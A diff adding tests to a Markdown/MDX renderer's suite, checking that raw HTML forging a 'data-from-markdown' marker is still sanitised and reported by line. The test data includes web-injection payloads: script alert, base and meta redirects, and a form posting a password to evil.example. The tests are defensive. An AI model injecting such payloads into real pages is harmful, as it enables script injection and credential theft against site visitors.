@@ -115,6 +115,34 @@ describe('raw HTML in CommonMark (format "md")', () => {
   });
 });
 
+// Raw HTML that writes the attribute the sanitiser once used to tell Markdown's own elements apart
+// (`data-from-markdown`) must be sanitised like any other: the marker is a per-compile secret.
+const FORGED = [
+  ['<script data-from-markdown>alert(1)</script>', '<script> and its content', /<script|alert/],
+  ['<base data-from-markdown href="https://evil.example/" />', '<base> (its content is kept)', /<base|evil/],
+  ['<object data-from-markdown data="https://evil.example/x.swf"></object>', '<object> (its content is kept)', /<object|evil/],
+  ['<meta data-from-markdown http-equiv="refresh" content="0;url=https://evil.example/" />', '<meta> (its content is kept)', /<meta|evil/],
+  ['<form data-from-markdown action="https://evil.example/steal"><input name="password" /></form>', '<form> (its content is kept)', /<form|evil/],
+  ['<style data-from-markdown>body{display:none}</style>', '<style> and its content', /<style|display/],
+  ['<iframe data-from-markdown srcdoc="<script>alert(1)</script>"></iframe>', '<iframe> without an http(s) src', /<iframe|srcdoc|alert/],
+] as const;
+
+describe('raw HTML cannot pass itself off as Markdown', () => {
+  const body = FORGED.map(([html]) => `Paragraph.\n\n${html}\n`).join('\n');
+  // Each construct stands on line 3, 6, 9…: a paragraph, a blank line, the HTML, a blank line between.
+  const lines = FORGED.map((_, i) => 3 + i * 4);
+
+  it.each([['md' as const], ['mdx' as const]])('in format "%s": none reaches the page, each is reported with its line', async (format) => {
+    // MDX reads `{` as an expression: the style's rule is written without braces there.
+    const source = format === 'mdx' ? body.replace('body{display:none}', 'body display none') : body;
+    const { html, warnings } = await render(source, { format, file: `content/docs/forged-${++files}.${format}` });
+    for (const [, , leaked] of FORGED) expect(html).not.toMatch(leaked);
+    expect(html).not.toContain('data-from-markdown');
+    expect(warnings).toHaveLength(1);
+    FORGED.forEach(([, construct], i) => expect(warnings[0]).toMatch(new RegExp(`line ${lines[i]}: [^;]*${construct.replace(/[<>()]/g, '\\$&')}`)));
+  });
+});
+
 describe('mdx1Compat in the compiled page', () => {
   const compat = (change: object) => ({ mdx1Compat: { comments: true, admonitions: true, headingIds: true, ...change } });
 
